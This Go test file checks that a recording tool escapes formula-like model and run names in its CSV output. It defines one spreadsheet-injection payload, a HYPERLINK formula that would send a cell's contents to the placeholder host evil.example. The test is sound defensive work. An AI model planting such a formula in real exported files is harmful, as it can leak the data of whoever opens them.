package main

import (
	"context"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/llmtape/llmtape/sim"
	"github.com/llmtape/llmtape/tape/tapetest"
)

// evilName is a recorded string that a spreadsheet would run as a formula.
const evilName = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// TestCSVEscapesRecordedStrings: a model name and a run name that look like formulas are
// written as text in analyze's and report's CSV.
func TestCSVEscapesRecordedStrings(t *testing.T) {
	path := chatStore(t, "evil.db", rand.NewPCG(1, 2), 2, func(i int) chatSpec {
		return chatSpec{chat: tapetest.Config{Turns: 2, MessageBytes: 60},
			arrival: time.Duration(i) * 10 * time.Millisecond, completion: 5, model: evilName}
	})

	escaped := `'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`
	code, out, errs := execCmd(context.Background(), "--store", path, "analyze", "--format", "csv")
	if code != 0 {
		t.Fatalf("analyze: exit %d %s", code, errs)
	}
	if !strings.Contains(out, `models,"`+escaped) || strings.Contains(out, `"=HYPERLINK`) {
		t.Errorf("analyze CSV does not escape the model name:\n%s", out)
	}

	url := replaySim(t, sim.Config{TTFT: time.Millisecond, ITL: 100 * time.Microsecond})
	if code, _, errs := execCmd(context.Background(), "replay", "--store", path, "--target", url,
		"--think", "none", "--speed", "100", "--name", evilName); code != 0 {
		t.Fatalf("replay: exit %d %s", code, errs)
	}
	code, out, errs = execCmd(context.Background(), "--store", path, "report", "--format", "csv")
	if code != 0 {
		t.Fatalf("report: exit %d %s", code, errs)
	}
	if !strings.Contains(out, `,name,"`+escaped) || strings.Contains(out, `"=HYPERLINK`) {
		t.Errorf("report CSV does not escape the run name:\n%s", out)
	}
}
